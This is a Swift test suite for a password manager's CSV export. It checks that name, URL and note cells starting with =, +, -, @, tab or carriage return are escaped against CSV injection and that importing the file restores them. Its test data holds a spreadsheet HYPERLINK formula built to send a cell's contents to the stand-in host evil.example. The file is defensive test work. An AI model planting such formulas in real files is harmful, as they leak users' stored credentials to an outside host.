import Foundation
import Testing

@testable import MyStashKit

/// `mystash export` writes no live spreadsheet formula: name, URL and notes cells that begin
/// like one get a `'` in front (OWASP's CSV-injection advice), and `import` takes it off again.
@Suite struct ExportFormulaTests {
    static let hostile = "=HYPERLINK(\"https://evil.example/?\"&J2,\"Bank\")"

    @Test func cellsThatBeginLikeAFormulaAreEscapedInTheNameURLAndNotesColumns() throws {
        let temp = try TemporaryStash()
        defer { temp.remove() }
        let stash = try temp.open()
        try stash.addPassword(
            PasswordEntry(
                name: Self.hostile,
                userID: "=user",
                password: "-pw",
                url: "+https://x.example",
                notes: "@SUM(1)"
            )
        )
        try stash.addNote(title: "\tTabbed", body: "\rcarriage")
        try stash.addPassword(PasswordEntry(name: "Plain", userID: "me", password: "pw", url: "https://ok.example"))
        let csv = String(decoding: try stash.exportCSV(), as: UTF8.self)
        #expect(csv.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&J2,\"\"Bank\"\")\""), "\(csv)")
        #expect(csv.contains("'@SUM(1)"))
        #expect(csv.contains("'+https://x.example"))
        #expect(csv.contains("'\tTabbed") && csv.contains("'\rcarriage"))
        #expect(csv.contains(",=user,-pw,"), "user IDs and passwords are left as they are (copied, not computed)")
        #expect(csv.contains(",Plain,") && csv.contains(",https://ok.example,"))
        #expect(!csv.contains(",\"=HYPERLINK") && !csv.contains(",=HYPERLINK"), "a live formula: \(csv)")
    }

    @Test func anExportImportsBackAsItWas() throws {
        let temp = try TemporaryStash()
        defer { temp.remove() }
        let stash = try temp.open()
        let entry = PasswordEntry(name: Self.hostile, userID: "me", password: "pw", url: "-x", notes: "+n")
        try stash.addPassword(entry)
        try stash.addNote(title: "@note", body: "=body")
        let file = temp.directory.appendingPathComponent("out.csv").path
        try Stash.writePrivateFile(try stash.exportCSV(), to: file)
        var reader = try PasswordExportReader(path: file, format: nil)
        let items = reader.items()
        #expect(items.contains(.password(entry)), "\(items)")
        #expect(items.contains(.note(title: "@note", body: "=body")))
        #expect(try stash.importItems(items) == ImportSummary(added: 0, updated: 0, unchanged: 2))
    }

    @Test func helpSaysSo() {
        #expect((ExportCommand.spec.epilogue ?? "").contains("with a ' in front, so that a spreadsheet"))
    }
}
